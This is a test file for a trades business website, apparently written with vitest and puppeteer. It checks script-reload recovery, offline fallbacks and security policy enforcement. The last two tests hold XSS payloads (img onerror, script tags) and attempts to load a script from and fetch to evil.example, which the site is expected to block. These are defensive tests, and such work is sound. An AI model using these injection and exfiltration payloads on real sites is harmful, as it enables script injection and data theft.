import type { Page } from 'puppeteer';
import { describe, expect, test } from 'vitest';
import { hydratedSelector } from '../../core/domain/rendering.ts';
import { paths } from '../../core/domain/pages.ts';
import { answerRequests } from '../support/servers/answer-requests.ts';
import { saveData } from '../support/visits/late-scripts.ts';
import {
  arriveAt,
  click,
  documentOf,
  follow,
  heading,
  press,
} from '../support/visits/controls.ts';
import {
  arrive,
  blockStorage,
  readText,
  siteUrl,
  wait,
  waitForAnnouncement,
  waitForText,
  type Visitor,
} from '../support/visitor.ts';

const documentsAsked = (visitor: Visitor, path: string) =>
  visitor.requests.filter((address) => address === siteUrl + path).length;

/** Clicks the footer's link to a page without waiting for that page, which may never load. */
const clickLink = (page: Page, path: string) =>
  press(page, `footer a[href="${path}"]`);

describe('a script that a new deployment has replaced', () => {
  const servicesScript = '*/assets/ServicesPage-*.js';

  test('causes one full page load, after which the page works', async () => {
    const visitor = await arrive({ path: paths.home });
    const { page } = visitor;
    await answerRequests(page, servicesScript, () =>
      documentsAsked(visitor, paths.services) === 0 ? { status: 404 } : 'pass',
    );
    await clickLink(page, paths.services);
    await heading(page, 'Our Services').wait();
    await page.waitForSelector(hydratedSelector());
    expect(new URL(page.url()).pathname).toBe(paths.services);
    // One request checks that the site responds, and one loads the page.
    expect(documentsAsked(visitor, paths.services)).toBe(2);
  });

  test.each([
    ['opened by a link', false],
    ['opened directly with storage blocked', true],
  ])(
    'and that never loads leaves a readable page with a message, without endless reloads: %s',
    async (_how, isDirect) => {
      const visitor = await arrive();
      const { page } = visitor;
      await answerRequests(page, servicesScript, { status: 404 });
      if (isDirect) {
        await blockStorage(page, 'sessionStorage');
        await page.goto(siteUrl + paths.services, { waitUntil: 'load' });
      } else {
        await visitor.open(paths.home);
        await clickLink(page, paths.services);
      }
      await waitForAnnouncement(page, 'Part of this page did not load');
      expect(await readText(page, 'h1')).toBe('Our Services');
      expect(
        await page.$$eval('main h3', (titles) => titles.length),
      ).toBeGreaterThan(8);
      const asked = documentsAsked(visitor, paths.services);
      await wait(1000);
      expect(documentsAsked(visitor, paths.services)).toBe(asked);
      expect(asked).toBeLessThanOrEqual(4);
    },
  );
});

/** Breaks the connection for the first request of a script. */
const loseOnce = (page: Page, pattern: string) =>
  answerRequests(page, pattern, (_request, index) =>
    index === 0 ? 'abort' : 'pass',
  );

describe('after a script was lost on its way, the second try works', () => {
  test('for the certificates', async () => {
    const { page, open } = await arrive();
    await loseOnce(page, '*/assets/CertificationsDialog-*.js');
    await open(paths.guarantee);
    const opened = await documentOf(page);
    await click(page, 'View Our Certifications');
    await expect
      .poll(() => documentOf(page).catch(() => opened))
      .not.toBe(opened);
    await page.waitForSelector(hydratedSelector());
    await click(page, 'View Our Certifications');
    await page.waitForSelector('dialog[open]');
  });

  test('for the finder, which keeps what was typed', async () => {
    const { page, open } = await arrive();
    await saveData(page);
    const typed = Promise.withResolvers<'abort'>();
    await answerRequests(page, '*/assets/TownFinder-*.js', (_request, index) =>
      index === 0 ? typed.promise : 'pass',
    );
    await open(paths.home);
    const opened = await documentOf(page);
    await page.type('[name=place]', 'Exeter');
    typed.resolve('abort');
    await expect
      .poll(() => documentOf(page).catch(() => opened))
      .not.toBe(opened);
    await page.waitForSelector(hydratedSelector());
    await click(page, 'Find');
    await arriveAt(page, paths.town('exeter'));
  });

  test('for the diary', async () => {
    const { page, open } = await arrive();
    await loseOnce(page, '*/assets/job-post-*.js');
    await answerRequests(page, '*/rest/v1/job_posts*', {
      status: 200,
      body: '[]',
    });
    await open(paths.jobDiary);
    await waitForAnnouncement(page, 'Error Loading Posts');
    await click(page, 'Try Again');
    await waitForText(page, 'Coming Soon');
  });
});

test.each([
  ['missing', { status: 404 }],
  [
    'a web page',
    {
      status: 200,
      headers: { 'Content-Type': 'text/html' },
      body: '<!doctype html><title>Hello</title>',
    },
  ],
  ['of another shape', { status: 200, body: '{"bodyHtml":null}' }],
])(
  'generated content that is %s makes the browser load the whole page, which contains the content',
  async (_fault, answer) => {
    const { page } = await arrive({ path: paths.areas });
    await answerRequests(page, '*/content/*', answer);
    await clickLink(page, paths.town('exeter'));
    await heading(page, 'Pressure Washing in Exeter').wait();
    expect(await page.title()).toContain('Exeter');
    expect(
      await page.$eval('main', (main) => main.textContent!.length),
    ).toBeGreaterThan(2000);
  },
);

test('offline, a page that cannot load shows the phone number and opens once the connection is back', async () => {
  const { page } = await arrive({ path: paths.home });
  await page.setOfflineMode(true);
  await clickLink(page, paths.services);
  await waitForAnnouncement(page, 'There seems to be no connection.');
  await click(page, 'Load the page again');
  expect(await readText(page, 'h1')).toBe('This page did not load');
  expect(await page.$('header a[href^="tel:"]')).not.toBeNull();
  await page.setOfflineMode(false);
  await heading(page, 'Our Services').wait();
});

test('in a browser without popovers and dialogs, the details of a service can still be opened and closed', async () => {
  const { page, open, complaints } = await arrive();
  await page.evaluateOnNewDocument(() => {
    for (const name of ['showPopover', 'hidePopover', 'togglePopover'])
      delete (HTMLElement.prototype as unknown as Record<string, unknown>)[
        name
      ];
    for (const name of ['showModal', 'show', 'close'])
      delete (
        HTMLDialogElement.prototype as unknown as Record<string, unknown>
      )[name];
  });
  await open(paths.services);
  await click(page, 'More Info about Render Cleaning');
  await heading(page, 'Our Process').wait();
  await click(page, 'Close dialog');
  await page.waitForSelector('dialog', { hidden: true });
  await follow(page, paths.guarantee);
  expect(complaints).toEqual([]);
});

test('markup in the query or fragment of a URL does not run', async () => {
  const { page, open, complaints } = await arrive();
  const markup = encodeURI(
    '<img src=x onerror="document.title=`run`"><script>document.title=`run`</script>',
  );
  await open(`/?q=${markup}#${markup}`);
  await open('/#%E0%A4%A');
  await open('/#"]');
  expect(await page.title()).toContain('Tidemark');
  expect(complaints).toEqual([]);
});

test('a script injected into a page cannot run code or send data to another site', async () => {
  const { page } = await arrive({ path: paths.home });
  const outcome = await page.evaluate(async () => {
    const blocked: string[] = [];
    addEventListener('securitypolicyviolation', (event) =>
      blocked.push(event.effectiveDirective),
    );
    const refused: string[] = [];
    const attempt = (name: string, action: () => void) => {
      try {
        action();
      } catch {
        refused.push(name);
      }
    };
    const put = (tag: string) =>
      document.body.appendChild(document.createElement(tag));
    attempt('markup', () =>
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src="/none.png" onerror="window.ran = true">',
      ),
    );
    attempt('parsed text', () =>
      new DOMParser().parseFromString('<img src="/none.png">', 'text/html'),
    );
    attempt('handler', () =>
      put('img').setAttribute('onerror', 'window.ran = true'),
    );
    attempt('script', () => (put('script').textContent = 'window.ran = true'));
    attempt(
      'foreign script',
      () =>
        ((put('script') as HTMLScriptElement).src =
          'https://evil.example/x.js'),
    );
    attempt('another gate', () =>
      (
        window as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): void };
        }
      ).trustedTypes //
        .createPolicy('other', {}),
    );
    const link = put('a') as HTMLAnchorElement;
    link.href = 'javascript:window.ran = true';
    link.click();
    const sent = await fetch('https://evil.example/', {
      mode: 'no-cors',
    }).then(
      () => true,
      () => false,
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    return {
      ran: 'ran' in window,
      sent,
      refused,
      blocked: [...new Set(blocked)].sort(),
    };
  });
  expect(outcome).toEqual({
    ran: false,
    sent: false,
    refused: [
      'markup',
      'parsed text',
      'handler',
      'script',
      'foreign script',
      'another gate',
    ],
    blocked: [
      'connect-src',
      'require-trusted-types-for',
      'script-src-elem',
      'trusted-types',
    ],
  });
});
